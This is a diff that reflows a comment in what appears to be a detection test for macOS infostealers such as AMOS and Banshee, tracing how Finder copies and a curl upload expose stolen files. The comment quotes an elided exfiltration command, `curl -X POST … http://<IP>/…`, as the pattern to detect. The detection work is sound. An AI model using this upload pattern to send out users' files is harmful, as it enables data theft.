@@ -4,9 +4,10 @@
  * Desktop and Documents files, into the staging folder. Finder does the read (a clone of the file), in Finder's own
  * lineage group; the stealer's group (osascript → sh → ditto, curl) archives the staging folder and uploads it.
  * Over TLS the archive alone makes an AN1415 candidate. Over plain HTTP (AMOS's and Banshee's
- * `curl -X POST … http://<IP>/…`) AN0425 wants a tier-1/2 read by the group (or the archive and an upload-shaped flow,
- * archive-then-cleartext-upload.test.ts): ditto's reads of Finder's copies are that read, since the eslogger pipeline follows an unauthorized copy of a tier-1 file to where it went
- * (collectors/eslogger/sensitive-copies.ts). Here the rows come from eslogger lines through the pipeline.
+ * `curl -X POST … http://<IP>/…`) AN0425 wants a tier-1/2 read by the group (or the archive and an upload-shaped
+ * flow, archive-then-cleartext-upload.test.ts): ditto's reads of Finder's copies are that read, since the eslogger
+ * pipeline follows an unauthorized copy of a tier-1 file to where it went (collectors/eslogger/sensitive-copies.ts).
+ * Here the rows come from eslogger lines through the pipeline.
  */
 import { describe, expect, it } from 'vitest';
 import { body, esLine, type ProcSpec } from '../../collectors/eslogger/testing/es-lines.mjs';
